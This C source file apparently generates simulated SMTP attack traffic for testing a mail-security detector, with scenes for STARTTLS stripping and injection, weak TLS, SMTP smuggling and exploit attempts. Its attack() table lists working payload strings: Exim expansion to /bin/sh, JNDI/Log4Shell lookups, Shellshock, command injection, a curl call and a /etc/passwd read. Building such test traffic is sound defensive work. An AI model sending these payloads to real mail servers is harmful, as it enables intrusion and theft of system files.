/* attack_transport.c - attacks on TLS, on the ends of messages, and in the text. */
#include "scene.h"

static void a_few(struct actor *a)
{
	place(a, wide(1, 12), wide(30, 40000));
	a->x = draw(1000);
	a->y = draw(16);
}

/* Somebody whose mail passes the place where TLS is attacked, and a server of his own. */
static void meet(const struct actor *a, uint32_t net)
{
	static const sc_str with[] = {{"STARTTLS", 8}, {"SIZE 1000000", 12}};
	arrive(outside(a, net, 0), inside(a, 24), 25, text("mx.q%uq%u.example", a->number, net));
	facts()->capabilities = (struct sc_strs){with, 2};
	facts()->starttls = "offered_unused";
}

static void without_offer(void)
{
	static const sc_str only[] = {{"SIZE 1000000", 12}};
	facts()->capabilities = (struct sc_strs){only, 1};
	facts()->starttls = "not_offered";
}

static void good_tls(void)
{
	facts()->starttls = "established";
}

/* ---- STARTTLS ---- */

static void mask(struct actor *a, uint32_t i)
{
	static const sc_str masked[] = {{"XXXXXXXA", 8}, {"SIZE 1000000", 12}};
	meet(a, 0);
	facts()->capabilities = (struct sc_strs){masked, 2};
	facts()->starttls = "stripped";
	facts()->quirks |= QUIRK(masked_keyword);
	leave();
	(void)i;
}

static void strip(struct actor *a)
{
	take_networks(a, between(3, 30));
	a->daily = between(2, 20);
	all_day(a, wide(30, 400));
	a->steady = true;
	a->x = a->acts / 2; /* from then on, for one network */
}

/* Offered to all others, before and behind. */
static void offer_to_others(struct actor *a, uint32_t i)
{
	bool one = !a->past && i > a->x && i % 4 == 0;
	meet(a, one ? 0 : 1 + i % (a->nets - 1));
	good_tls();
	if (one)
		without_offer();
	mail("ann@site.example", text("user%u@" OURS, draw(400)), "accepted", NULL);
	leave();
}

static void refuse(struct actor *a)
{
	take_networks(a, between(3, 30));
	all_day(a, wide(60, 400));
	a->steady = true;
	a->x = a->acts / 2;
}

static void refuse_one(struct actor *a, uint32_t i)
{
	bool one = i > a->x && i % 4 == 0;
	meet(a, one ? 0 : 1 + i % (a->nets - 1));
	good_tls();
	if (one) {
		facts()->starttls = "refused";
		say("STARTTLS", "", 554, 0);
		refusal("starttls", 554, "policy");
	}
	leave();
}

static void fall_back(struct actor *a)
{
	a->daily = between(0, 5);
	place(a, wide(2, 60), wide(600, 60000));
	a->steady = true;
}

static void use_none(struct actor *a, uint32_t i)
{
	meet(a, 0);
	if (a->past || i == 0)
		good_tls();
	mail("ann@site.example", text("user%u@" OURS, draw(400)), "accepted", NULL);
	leave();
}

static void glue(struct actor *a, uint32_t i)
{
	meet(a, 0);
	bool client = a->x & 1;
	facts()->glued =
		(struct sc_ev_glued){client ? between(1, 400) : 0, client ? 0 : between(1, 400), SC_STR("EHLO evil")};
	facts()->quirks |= client ? QUIRK(starttls_glued_client) : QUIRK(starttls_glued_server);
	good_tls();
	leave();
	(void)i;
}

/* ---- handshakes ---- */

static void fail(struct actor *a)
{
	shape(a, 3, 600, 80);
	a->x = draw(3);
}

static void fail_handshake(struct actor *a, uint32_t i)
{
	static const char *const alerts[] = {"handshake_failure", "protocol_version", "unknown_ca"};
	meet(a, 0);
	struct sc_ev_tls x = {.via = "starttls", .alert = {"server", 40, alerts[a->x]}};
	handshake(&x);
	facts()->starttls = a->x ? "handshake_failed" : "accepted_no_handshake";
	leave();
	(void)i;
}

static void be_weak(struct actor *a, uint32_t i)
{
	static const sc_str names[] = {{"mx.example.org", 14}};
	struct sc_ev_tls x = {.via = "starttls",
			      .version = "TLSv1.2",
			      .cipher = "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256",
			      .established = true,
			      .certificate = {.not_after = SC_TIME_NONE, .not_before = SC_TIME_NONE}};
	struct sc_ev_certificate *c = &x.certificate;
	switch (a->y % 10) {
	case 0:
		x.version = "TLSv1.0";
		break;
	case 1:
		x.version = "TLSv1.1";
		break;
	case 2:
		x.version = "SSLv3";
		break;
	case 3:
		x.cipher = "TLS_RSA_WITH_RC4_128_SHA";
		break;
	case 4:
		x.cipher = "TLS_RSA_WITH_3DES_EDE_CBC_SHA";
		break;
	case 5:
		c->not_after = clock_now() - between(1, 900) * (sc_time)DAY_S * SC_SECOND;
		break;
	case 6:
		x.sni = SC_STR("mx.other.example"), c->names = (struct sc_strs){names, 1};
		break;
	case 7:
		c->key = SC_STR("RSA 1024");
		break;
	case 8:
		c->signature = "sha1WithRSAEncryption", c->subject = SC_STR("CN=a"), c->issuer = SC_STR("CN=b");
		break;
	default:
		x.old_offer = chance(50) ? "version" : "weak_cipher", x.established = chance(50);
		break;
	}
	meet(a, 0);
	handshake(&x);
	leave();
	(void)i;
}

/* ---- in the text ---- */

static void smuggle(struct actor *a, uint32_t i)
{
	arrive(outside(a, 0, i), our_mx(a), 25, text("h.q%uq.example", a->number));
	struct letter l = letter(text("x@q%uq.example", a->number), "user1@" OURS, "accepted", NULL);
	l.quirks = QUIRK(eod_lookalike) | QUIRK(eod_commands) | (a->x & 1 ? QUIRK(eod_other) : 0);
	send_letter(&l);
	leave();
}

static void attack(struct actor *a, uint32_t i)
{
	static const struct {
		const char *verb, *argument;
	} tries[] = {
		{"RCPT", "TO:<${run{\\x2Fbin\\x2Fsh}}@" OURS ">"},
		{"MAIL", "FROM:<x@${jndi:ldap://e.example/a}>"},
		{"EHLO", "${${lower:j}ndi:ldap://e.example}"},
		{"MAIL", "FROM:<() { :; }; id>"},
		{"RCPT", "TO:<\"|/bin/sh\"@" OURS ">"},
		{"RCPT", "TO:<$(id)@" OURS ">"},
		{"RCPT", "TO:<`id`@" OURS ">"},
		{"MAIL", "FROM:<;for i in 1 2;do id;done@x.example>"},
		{"MAIL", "FROM:<a@b.example> AUTH=x+0Aroot"},
		{"XEXCH50", "-1 2"},
		{"BDAT", "99999999999999 LAST"},
		{"DEBUG", ""},
		{"RCPT", "TO:<a@b.example> ORCPT=rfc822;x+0Dy"},
		{"VRFY", "| /bin/id"},
		{"HELO", "$(curl e.example)"},
		{"MAIL", "FROM:<${readfile{/etc/passwd}}>"},
	};
	arrive(outside(a, 0, 0), our_mx(a), 25, text("h.q%uq.example", a->number));
	say(tries[a->y].verb, tries[a->y].argument, chance(50) ? 250 : 501, 0);
	leave();
	(void)i;
}

static void known(struct actor *a)
{
	a_few(a);
	char line[200];
	struct sc_ip ip = outside(a, 0, 0);
	const uint8_t *o = ip.octets;
	if (a->x % 3 == 0 && !a->v6)
		snprintf(line, sizeof(line), "%u.%u.%u.0/24 a botnet", o[0], o[1], o[2]);
	else if (a->x % 3 == 1)
		snprintf(line, sizeof(line), "q%uq.example a phisher", a->number);
	else
		snprintf(line, sizeof(line), "helo:box.q%uq.example a kit", a->number);
	put_on_list(line);
}

static void be_known(struct actor *a, uint32_t i)
{
	arrive(outside(a, 0, i), our_mx(a), 25, text("box.q%uq.example", a->number));
	mail(text("x@q%uq.example", a->number), "user1@" OURS, "rejected", "policy");
	leave();
}

static const struct scene scenes[] = {
	{"masks STARTTLS", "starttls_stripped", "no_mail_sessions", 8, a_few, mask},
	{"takes STARTTLS from one", "starttls_stripped", "starttls_unused", 8, strip, offer_to_others},
	{"refuses STARTTLS to one", "starttls_stripped", "", 4, refuse, refuse_one},
	{"falls back to plain text", "starttls_unused", "", 20, fall_back, use_none},
	{"glues text to STARTTLS", "starttls_injection", "", 20, a_few, glue},
	{"fails handshakes", "tls_failed", "no_mail_sessions connection_flood", 20, fail, fail_handshake},
	{"has weak TLS", "tls_weak", "", 20, a_few, be_weak},
	{"smuggles", "smtp_smuggling", "", 20, a_few, smuggle},
	{"attacks", "exploit", "helo_invalid no_mail_sessions", 20, a_few, attack},
	{"is on a list", "intel", "", 20, known, be_known},
};
const struct scenes transport_attacks = SCENES_OF(scenes);
